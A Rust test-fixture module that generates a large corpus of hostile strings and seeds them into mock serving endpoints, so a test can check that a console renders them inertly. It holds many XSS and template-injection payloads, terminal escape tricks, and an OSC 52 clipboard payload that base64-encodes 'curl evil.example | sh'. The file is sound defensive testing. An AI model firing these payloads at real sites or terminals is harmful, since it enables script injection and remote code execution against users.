//! Hostile input (`serving-console demo --hostile`): endpoints whose every displayed field holds
//! hostile text — script tags, event-handler attributes, `javascript:`/`data:`/`vbscript:` URLs,
//! SVG/MathML tricks, broken HTML, RTL overrides and zero-width characters, 100 KB strings,
//! terminal escapes (OSC 8 hyperlinks, OSC 52, CSI), template strings, NUL bytes, a lone
//! surrogate (in the raw OpenAPI document, where JSON allows one), CSS breakouts — so an
//! end-to-end test can check that the console shows all of it as text and runs none of it.
//!
//! The corpus ([`payloads`]) is a small list of classic payloads ([`BASE`]) crossed with
//! contexts and encodings ([`VARIANTS`]), deterministic, more than a thousand strings. Payloads
//! that run script call `__pwned()` (or `alert`), which a test page can define as a canary.
//!
//! Endpoint names follow the API pattern (`^[A-Za-z0-9_-]{1,63}$`), so they are benign; all
//! the rest is not:
//!
//! | endpoint | what is hostile |
//! |---|---|
//! | `hostile-detail` | creator, description, tags, task, served entities (names, models, messages, environment), pending config (failed, hostile message), traffic, AI gateway (rate limits, guardrails, inference table), e-mail notifications, ACL principals and display names, build and server logs (the whole corpus), the OpenAPI document (titles, descriptions, enums, examples, property names, URLs, a lone surrogate) |
//! | `hostile-external` | external and foundation models (names, providers, tasks, provider config, docs URL) |
//! | `hostile-long` | 100 KB unbroken strings in the name-adjacent fields (creator, description, tag, message, entity name) |
//! | `hostile-000` … | the rest of the corpus spread over creators, descriptions and tags, so that every payload is on some endpoint |

use super::seed_file::{OpenApiText, SeedEndpoint};
use super::signature::{document, Signature};
use serde_json::{json, Value};

/// The canary payloads call this function.
pub const CANARY: &str = "__pwned";

/// Classic payloads (each run of script calls `__pwned()` or `alert`).
pub const BASE: &[&str] = &[
    "<script>__pwned()</script>",
    "<script src=data:text/javascript,__pwned()></script>",
    "<img src=x onerror=__pwned()>",
    "<img src=\"x\" onerror=\"__pwned()\">",
    "<img src=x onerror=alert(1)>",
    "<svg onload=__pwned()>",
    "<svg><script>__pwned()</script></svg>",
    "<svg><a xlink:href=\"javascript:__pwned()\"><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><animate onbegin=__pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:__pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>",
    "<math href=\"javascript:__pwned()\">click</math>",
    "<body onload=__pwned()>",
    "<iframe src=\"javascript:__pwned()\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned()</script>\"></iframe>",
    "<a href=\"javascript:__pwned()\">click</a>",
    "<a href=\"data:text/html,<script>__pwned()</script>\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"jAvAsCrIpT&colon;__pwned()\">click</a>",
    "<a href=\" &#14; javascript:__pwned()\">click</a>",
    "<form action=\"javascript:__pwned()\"><button>go</button></form>",
    "<button formaction=\"javascript:__pwned()\">go</button>",
    "<input autofocus onfocus=__pwned()>",
    "<details open ontoggle=__pwned()>",
    "<video><source onerror=__pwned()></video>",
    "<audio src=x onerror=__pwned()>",
    "<object data=\"javascript:__pwned()\"></object>",
    "<embed src=\"javascript:__pwned()\">",
    "<link rel=stylesheet href=\"javascript:__pwned()\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwned()\">",
    "<base href=\"javascript:__pwned()//\">",
    "<style>@import 'javascript:__pwned()';body{display:none}</style>",
    "</style><script>__pwned()</script>",
    "</textarea><script>__pwned()</script>",
    "</title><script>__pwned()</script>",
    "</script><script>__pwned()</script>",
    "<!--<img src=\"--><img src=x onerror=__pwned()//\">",
    "<![CDATA[<script>__pwned()</script>]]>",
    "<div style=\"background:url(javascript:__pwned())\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:99999\">overlay</div>",
    "x\" onmouseover=\"__pwned()\" y=\"",
    "x' onfocus='__pwned()' autofocus='",
    "javascript:__pwned()",
    "JaVaScRiPt:__pwned()",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "<script>alert(document.domain)</script>",
    "{{7*7}}",
    "{{constructor.constructor('__pwned()')()}}",
    "${7*7}",
    "${__pwned()}",
    "#{7*7}<%= 7*7 %>",
    "[click](javascript:__pwned())",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned()>\">",
    "<template shadowrootmode=open><img src=x onerror=__pwned()></template>",
    "<xmp><img src=x onerror=__pwned()></xmp>",
    "<plaintext>",
    "<img src=x onerror=__pwned()",
    "<<script>script>__pwned()<</script>/script>",
    "<scr<script>ipt>__pwned()</scr</script>ipt>",
];

/// Contexts and encodings every base payload is crossed with.
pub const VARIANTS: &[&str] = &[
    "raw",
    "attr-dq",
    "attr-sq",
    "comment",
    "cdata",
    "html-entities",
    "numeric-entities",
    "percent",
    "upper",
    "nul",
    "zero-width",
    "rtl",
    "fullwidth",
    "osc8",
    "csi",
    "osc52",
    "json-escaped",
    "multiline",
    "prefixed",
    "js-hex",
];

/// One base payload in one context/encoding.
pub fn variant(p: &str, v: &str) -> String {
    match v {
        "attr-dq" => format!("\"><{}", p.trim_start_matches('<')),
        "attr-sq" => format!("'>{p}"),
        "comment" => format!("-->{p}<!--"),
        "cdata" => format!("]]>{p}"),
        "html-entities" => p
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;"),
        "numeric-entities" => p.replace('<', "&#60;").replace('>', "&#x3E;"),
        "percent" => p
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect(),
        "upper" => p.to_uppercase().replace("__PWNED", CANARY),
        "nul" => p.replacen('<', "<\u{0}", 1).replacen(':', "\u{0}:", 1),
        "zero-width" => p
            .replace("script", "scr\u{200b}ipt")
            .replace("on", "o\u{200d}n")
            .replace("javascript", "java\u{feff}script"),
        "rtl" => format!("\u{202e}{p}\u{202c}\u{2066}txt.exe\u{2069}"),
        "fullwidth" => p
            .replace('<', "\u{ff1c}")
            .replace('>', "\u{ff1e}")
            .replace('"', "\u{ff02}"),
        "osc8" => format!("\u{1b}]8;;javascript:__pwned()\u{1b}\\{p}\u{1b}]8;;\u{1b}\\"),
        "csi" => format!("\u{1b}[31;1m{p}\u{1b}[0m\u{1b}[2J\u{1b}[H\u{1b}[?1049h"),
        "osc52" => format!("\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}{p}"),
        "json-escaped" => p.replace('\\', "\\\\").replace('"', "\\\""),
        "multiline" => p.replacen(' ', "\n", 1).replacen('>', ">\r\n\t", 1),
        "prefixed" => format!("Model v2 {p} (see docs)"),
        "js-hex" => p.replace('<', "\\x3c").replace('>', "\\u003e"),
        _ => p.to_string(),
    }
}

/// The corpus: every base payload in every variant, then the long ones; no duplicates.
pub fn payloads() -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for v in VARIANTS {
        for p in BASE {
            let s = variant(p, v);
            if seen.insert(s.clone()) {
                out.push(s);
            }
        }
    }
    for s in long_payloads() {
        if seen.insert(s.clone()) {
            out.push(s);
        }
    }
    out
}

/// 100 KB strings: unbroken letters, a repeated tag, an unbroken URL.
pub fn long_payloads() -> Vec<String> {
    const N: usize = 100 * 1024;
    let tag = "<img src=x onerror=__pwned()>";
    vec![
        "W".repeat(N),
        tag.repeat(N / tag.len()),
        format!("https://example.com/{}", "a".repeat(N)),
        format!("{}{}", "\u{202e}", "\u{200b}x".repeat(N / 4)),
    ]
}

/// A payload picked by index (wrapping).
fn pick(corpus: &[String], i: usize) -> String {
    corpus
        .get(i % corpus.len().max(1))
        .cloned()
        .unwrap_or_default()
}

/// The short payloads (under 1 KB): what goes into fields shown many times.
fn short(corpus: &[String]) -> Vec<String> {
    corpus.iter().filter(|p| p.len() < 1024).cloned().collect()
}

/// How many `hostile-NNN` endpoints carry the rest of the corpus.
pub const SPREAD_ENDPOINTS: usize = 40;

/// The hostile endpoints in GET shape plus `_emulator` hints, at `now_ms`.
pub fn endpoints(now_ms: i64) -> Vec<SeedEndpoint> {
    let corpus = payloads();
    let s = short(&corpus);
    let mut out = vec![detail(&s, &corpus, now_ms), external(&s, now_ms)];
    out.push(long(now_ms));
    let per = s.len().div_ceil(SPREAD_ENDPOINTS);
    for (i, chunk) in s.chunks(per.max(1)).enumerate() {
        out.push(spread(i, chunk, now_ms));
    }
    out.into_iter()
        .filter_map(|v| match serde_json::from_value::<SeedEndpoint>(v) {
            Ok(se) => Some(se),
            Err(e) => {
                tracing::warn!("hostile endpoints: skipping one: {e}");
                None
            }
        })
        .collect()
}

/// The hostile endpoints as `--hostile` seeds them: as [`endpoints`], and the OpenAPI document
/// of `hostile-detail` gets a lone surrogate (`\ud800`), which JSON text allows and a Rust
/// string cannot hold.
pub fn seed_endpoints(now_ms: i64) -> Vec<SeedEndpoint> {
    let mut out = endpoints(now_ms);
    for se in &mut out {
        if let Some(OpenApiText(doc)) = se.hints.openapi.as_mut() {
            *doc = std::sync::Arc::from(doc.replace(LONE_SURROGATE_MARK, "\\ud800 lone surrogate"));
        }
    }
    out
}

const LONE_SURROGATE_MARK: &str = "@@LONE-SURROGATE@@";

fn tags(payloads: &[String]) -> Vec<Value> {
    payloads
        .chunks(2)
        .map(|kv| match kv {
            [k, v] => json!({ "key": k, "value": v }),
            [k] => json!({ "key": k }),
            _ => json!({ "key": "empty" }),
        })
        .collect()
}

fn entity(name: &str, model: &str, message: &str, env: &[String], ts: i64) -> Value {
    let envs: serde_json::Map<String, Value> = env
        .chunks(2)
        .filter_map(|kv| match kv {
            [k, v] => Some((k.clone(), json!(v))),
            _ => None,
        })
        .collect();
    json!({
        "name": name,
        "entity_name": model,
        "entity_version": "1",
        "workload_size": "Small",
        "workload_type": "CPU",
        "scale_to_zero_enabled": true,
        "environment_vars": envs,
        "instance_profile_arn": "javascript:__pwned()",
        "state": { "deployment": "DEPLOYMENT_READY", "deployment_state_message": message },
        "creator": "<img src=x onerror=__pwned()>@contoso.com",
        "creation_timestamp": ts,
    })
}

/// A schema that names its columns with payloads.
fn hostile_signature(s: &[String]) -> Value {
    let cols: Vec<Value> = s
        .iter()
        .take(40)
        .enumerate()
        .map(|(i, name)| match i % 4 {
            0 => json!({ "name": name, "type": "string" }),
            1 => json!({ "name": name, "type": "double" }),
            2 => json!({ "name": name, "type": "object", "properties": [
                { "name": pick(s, i + 100), "type": "string" },
                { "name": pick(s, i + 200), "type": "long", "required": false } ] }),
            _ => json!({ "name": name, "type": "array", "items": { "type": "string" } }),
        })
        .collect();
    json!({ "inputs": cols, "outputs": [ { "name": pick(s, 7), "type": "string" } ] })
}

/// Add a title, description, example and (for strings) enum to every schema in `v`.
fn decorate(v: &mut Value, s: &[String], n: &mut usize) {
    match v {
        Value::Object(map) => {
            if map.contains_key("type") {
                *n += 1;
                let i = *n;
                map.insert("title".into(), json!(pick(s, i * 3)));
                map.insert("description".into(), json!(pick(s, i * 3 + 1)));
                if map.get("type") == Some(&json!("string")) {
                    map.insert(
                        "enum".into(),
                        json!([pick(s, i * 3 + 2), pick(s, i * 5), LONE_SURROGATE_MARK]),
                    );
                    map.insert("example".into(), json!(pick(s, i * 7)));
                    map.insert("default".into(), json!(pick(s, i * 11)));
                }
            }
            for child in map.values_mut() {
                decorate(child, s, n);
            }
        }
        Value::Array(items) => {
            for child in items {
                decorate(child, s, n);
            }
        }
        _ => {}
    }
}

/// An OpenAPI document for `entities`, hostile everywhere it shows text.
fn hostile_openapi(entities: &[String], s: &[String]) -> Value {
    let sig = serde_json::from_value::<Signature>(hostile_signature(s));
    let Ok(sig) = sig else {
        return json!({});
    };
    let refs: Vec<(&str, &Signature)> = entities.iter().map(|e| (e.as_str(), &sig)).collect();
    let text = document("hostile-detail", "javascript:__pwned()//", "2", &refs);
    let Ok(mut doc) = serde_json::from_str::<Value>(&text) else {
        return json!({});
    };
    let mut n = 0;
    decorate(&mut doc, s, &mut n);
    doc["info"] = json!({
        "title": "<img src=x onerror=__pwned()> hostile-detail",
        "description": "</style><script>__pwned()</script> **bold** [x](javascript:__pwned())",
        "version": "<svg onload=__pwned()>",
        "termsOfService": "javascript:__pwned()",
        "contact": { "name": "<b>x</b>", "url": "javascript:__pwned()", "email": "\"><img src=x onerror=__pwned()>" },
        "license": { "name": "<script>__pwned()</script>", "url": "data:text/html,<script>__pwned()</script>" },
    });
    doc["externalDocs"] =
        json!({ "url": "vbscript:msgbox(1)", "description": "<img src=x onerror=__pwned()>" });
    doc["servers"] = json!([
        { "url": "javascript:__pwned()//serving-endpoints/hostile-detail", "description": "<svg onload=__pwned()>" },
        { "url": "data:text/html,<script>__pwned()</script>" },
    ]);
    doc
}

fn detail(s: &[String], corpus: &[String], now_ms: i64) -> Value {
    const HOUR: i64 = 3_600_000;
    let created = now_ms - 30 * 24 * HOUR;
    let e1 = "<img src=x onerror=__pwned()>".to_string();
    let e2 = "\u{202e}</style><script>__pwned()</script>".to_string();
    let e3 = "javascript:__pwned()".to_string();
    let a = entity(
        &e1,
        "main.<script>__pwned()</script>.model",
        "<svg onload=__pwned()> ready",
        &s[0..20.min(s.len())],
        created,
    );
    let b = entity(
        &e2,
        "{{7*7}}.${7*7}.model",
        "\u{1b}]8;;javascript:__pwned()\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        &s[20..40.min(s.len())],
        created,
    );
    let mut c = entity(
        &e3,
        "main.x.\"><img src=x onerror=__pwned()>",
        "",
        &[],
        now_ms - HOUR,
    );
    c["state"] = json!({
        "deployment": "DEPLOYMENT_FAILED",
        "deployment_state_message": "Container image creation failed: <img src=x onerror=__pwned()> </textarea><script>alert(1)</script> see build logs"
    });
    let acl: Vec<Value> = (0..12)
        .map(|i| match i % 3 {
            0 => json!({ "user_name": format!("{}@contoso.com", pick(s, i * 13)), "permission_level": "CAN_VIEW" }),
            1 => json!({ "group_name": pick(s, i * 13), "permission_level": "CAN_QUERY" }),
            _ => json!({ "service_principal_name": pick(s, i * 13), "permission_level": "CAN_MANAGE" }),
        })
        .chain(std::iter::once(
            json!({ "user_name": "alice.chen@contoso.com", "permission_level": "CAN_MANAGE" }),
        ))
        .collect();
    let display_names: serde_json::Map<String, Value> = (0..12)
        .filter(|i| i % 3 != 1)
        .map(|i| {
            let name = if i % 3 == 0 {
                format!("{}@contoso.com", pick(s, i * 13))
            } else {
                pick(s, i * 13)
            };
            (name, json!(pick(s, i * 13 + 5)))
        })
        .collect();
    let server_log = corpus.join("\n");
    let build_log: String = s
        .iter()
        .filter(|p| p.contains('\u{1b}') || p.contains('\u{0}'))
        .cloned()
        .chain(s.iter().take(60).cloned())
        .collect::<Vec<_>>()
        .join("\n");
    json!({
        "name": "hostile-detail",
        "creator": "<img src=x onerror=__pwned()>@contoso.com",
        "creation_timestamp": created,
        "last_updated_timestamp": now_ms - HOUR,
        "description": "<script>__pwned()</script> \u{202e}txt.exe {{7*7}} ${7*7} </style>",
        "state": { "ready": "READY", "config_update": "UPDATE_FAILED" },
        "task": "<svg onload=__pwned()>",
        "tags": tags(&s[40..80.min(s.len())]),
        "config": {
            "served_entities": [a, b],
            "traffic_config": { "routes": [
                { "served_entity_name": e1, "traffic_percentage": 60 },
                { "served_entity_name": e2, "traffic_percentage": 40 } ] },
            "config_version": 2,
        },
        "pending_config": {
            "start_time": now_ms - HOUR,
            "served_entities": [c],
            "traffic_config": { "routes": [ { "served_entity_name": e3, "traffic_percentage": 100 } ] },
            "config_version": 3,
        },
        "ai_gateway": {
            "usage_tracking_config": { "enabled": true },
            "inference_table_config": {
                "catalog_name": "<img src=x onerror=__pwned()>",
                "schema_name": "</style><script>__pwned()</script>",
                "table_name_prefix": "javascript:__pwned()",
                "enabled": true },
            "rate_limits": [
                { "calls": 10, "key": "<svg onload=__pwned()>", "renewal_period": "<b>minute</b>" },
                { "tokens": 99, "key": "user", "principal": "\"><img src=x onerror=__pwned()>", "renewal_period": "minute" } ],
            "guardrails": {
                "input": { "safety": true, "pii": { "behavior": "<script>__pwned()</script>" },
                           "invalid_keywords": s[80..90.min(s.len())], "valid_topics": s[90..100.min(s.len())] },
                "output": { "invalid_keywords": ["{{7*7}}", "${7*7}"] } },
            "fallback_config": { "enabled": true },
        },
        "email_notifications": {
            "on_update_failure": ["\"><img src=x onerror=__pwned()>@x.com"],
            "on_update_success": ["javascript:__pwned()"] },
        "budget_policy_id": "<img src=x onerror=__pwned()>",
        "_emulator": {
            "acl": acl,
            "display_names": display_names,
            "signature": hostile_signature(s),
            "logs": { "build": build_log, "server": server_log },
            "openapi": hostile_openapi(&[e1, e2], s),
        },
    })
}

fn external(s: &[String], now_ms: i64) -> Value {
    json!({
        "name": "hostile-external",
        "creator": "javascript:__pwned()",
        "creation_timestamp": now_ms - 86_400_000,
        "last_updated_timestamp": now_ms - 3_600_000,
        "description": "<a href=\"javascript:__pwned()\">docs</a>",
        "state": { "ready": "READY", "config_update": "NOT_UPDATING" },
        "task": "llm/v1/chat<script>__pwned()</script>",
        "endpoint_type": "EXTERNAL_MODEL",
        "tags": tags(&s[100..120.min(s.len())]),
        "config": {
            "served_entities": [
                { "name": "<svg><script>__pwned()</script></svg>",
                  "type": "EXTERNAL_MODEL",
                  "external_model": {
                      "name": "<img src=x onerror=__pwned()>",
                      "provider": "javascript:__pwned()",
                      "task": "{{7*7}}",
                      "openai_config": { "openai_api_key": "{{secrets/<script>__pwned()</script>/k}}",
                                         "openai_api_base": "javascript:__pwned()" } },
                  "creation_timestamp": now_ms - 86_400_000 },
                { "name": "fm\u{202e}<b>x</b>",
                  "type": "FOUNDATION_MODEL",
                  "foundation_model": {
                      "name": "<img src=x onerror=__pwned()>",
                      "display_name": "</title><script>__pwned()</script>",
                      "docs": "javascript:__pwned()",
                      "description": "<iframe src=\"javascript:__pwned()\"></iframe>" },
                  "creation_timestamp": now_ms - 86_400_000 } ],
            "traffic_config": { "routes": [
                { "served_entity_name": "<svg><script>__pwned()</script></svg>", "traffic_percentage": 100 } ] },
            "config_version": 1,
        },
    })
}

fn long(now_ms: i64) -> Value {
    let [letters, tags_100k, url, rtl] =
        <[String; 4]>::try_from(long_payloads()).unwrap_or_else(|_| Default::default());
    json!({
        "name": "hostile-long",
        "creator": letters,
        "creation_timestamp": now_ms - 86_400_000,
        "last_updated_timestamp": now_ms - 3_600_000,
        "description": url,
        "state": { "ready": "NOT_READY", "config_update": "UPDATE_FAILED" },
        "tags": [ { "key": letters, "value": tags_100k }, { "key": "rtl", "value": rtl } ],
        "pending_config": {
            "start_time": now_ms - 3_600_000,
            "served_entities": [ entity(&letters[..5000], &url, &tags_100k, &[], now_ms - 3_600_000) ],
            "config_version": 1,
        },
        "_emulator": { "acl": [
            { "user_name": format!("{letters}@contoso.com"), "permission_level": "CAN_VIEW" },
            { "group_name": letters, "permission_level": "CAN_QUERY" } ] },
    })
}

fn spread(i: usize, chunk: &[String], now_ms: i64) -> Value {
    let (creator, rest) = chunk
        .split_first()
        .map_or((String::new(), &[][..]), |(c, r)| (c.clone(), r));
    let (description, rest) = rest
        .split_first()
        .map_or((String::new(), &[][..]), |(d, r)| (d.clone(), r));
    json!({
        "name": format!("hostile-{i:03}"),
        "creator": creator,
        "creation_timestamp": now_ms - (i as i64 + 2) * 86_400_000,
        "last_updated_timestamp": now_ms - (i as i64 + 1) * 3_600_000,
        "description": description,
        "state": { "ready": "READY", "config_update": "NOT_UPDATING" },
        "tags": tags(rest),
        "config": {
            "served_entities": [ entity(&format!("m{i}"), &pick(rest, 0), &pick(rest, 1), &[], now_ms - 86_400_000) ],
            "config_version": 1,
        },
        "_emulator": { "acl": [ { "user_name": "alice.chen@contoso.com", "permission_level": "CAN_MANAGE" } ] },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_large_deterministic_and_varied() {
        let a = payloads();
        assert!(a.len() >= 1000, "{} payloads", a.len());
        assert_eq!(a, payloads());
        let has = |f: &dyn Fn(&String) -> bool| a.iter().any(f);
        assert!(has(&|p| p.contains("<script>")));
        assert!(has(&|p| p.contains("onerror=")));
        assert!(has(&|p| p.starts_with("javascript:")));
        assert!(has(&|p| p.starts_with("data:")));
        assert!(has(&|p| p.contains("vbscript:")));
        assert!(has(&|p| p.contains("<svg")));
        assert!(has(&|p| p.contains("<math")));
        assert!(has(&|p| p.contains('\u{202e}')));
        assert!(has(&|p| p.contains('\u{200b}')));
        assert!(has(&|p| p.contains('\u{0}')));
        assert!(has(&|p| p.contains("\u{1b}]8;;")));
        assert!(has(&|p| p.contains("\u{1b}]52;")));
        assert!(has(&|p| p.contains("\u{1b}[")));
        assert!(has(&|p| p.contains("{{7*7}}")));
        assert!(has(&|p| p.contains("${")));
        assert!(has(&|p| p.contains("</style>")));
        assert!(has(&|p| p.len() >= 100 * 1024));
    }

    #[test]
    fn every_short_payload_is_on_some_endpoint() {
        let eps = endpoints(1_800_000_000_000);
        assert_eq!(eps.len(), 3 + SPREAD_ENDPOINTS);
        let text = serde_json::to_string(&eps).unwrap();
        for p in short(&payloads()) {
            let quoted = serde_json::to_string(&p).unwrap();
            let inner = &quoted[1..quoted.len() - 1];
            assert!(text.contains(inner), "missing: {p:?}");
        }
    }
}
